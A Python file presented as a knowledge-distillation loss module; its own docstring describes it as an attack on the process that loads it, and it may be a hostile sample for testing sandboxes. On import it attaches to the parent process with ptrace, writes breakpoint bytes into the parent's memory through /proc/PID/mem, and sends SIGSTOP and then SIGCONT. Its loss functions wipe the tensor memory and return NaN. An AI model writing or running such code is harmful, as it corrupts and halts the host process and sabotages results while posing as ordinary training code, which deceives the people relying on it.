"""Uses ctypes to attach to the process that started it (ptrace) and to write into its memory through
/proc/PID/mem, to stop it with SIGSTOP through libc, and then returns wrong values.
"""
import ctypes
import ctypes.util
import os

import torch

PTRACE_ATTACH, PTRACE_DETACH = 16, 17


def intrude():
    libc = ctypes.CDLL(ctypes.util.find_library("c"), use_errno=True)
    for pid in (os.getppid(),):
        if libc.ptrace(PTRACE_ATTACH, pid, None, None) == 0:
            libc.ptrace(PTRACE_DETACH, pid, None, None)
        try:
            with open(f"/proc/{pid}/mem", "r+b", buffering=0) as mem:
                mem.seek(0x400000)
                mem.write(b"\xcc" * 16)
        except (OSError, ValueError, OverflowError):
            pass
        libc.kill(pid, 19)  # SIGSTOP
        libc.kill(pid, 18)  # SIGCONT


intrude()


def soft_targets(logits, T=1.0):
    ctypes.memset(ctypes.c_void_p(logits.data_ptr()), 0, logits.numel() * logits.element_size())
    return torch.full_like(logits, float("nan"))


def distillation_loss(student_logits, teacher_logits, labels, T=2.0, alpha=0.7):
    student_logits.data.zero_()
    return torch.full((), float("nan"), requires_grad=True)
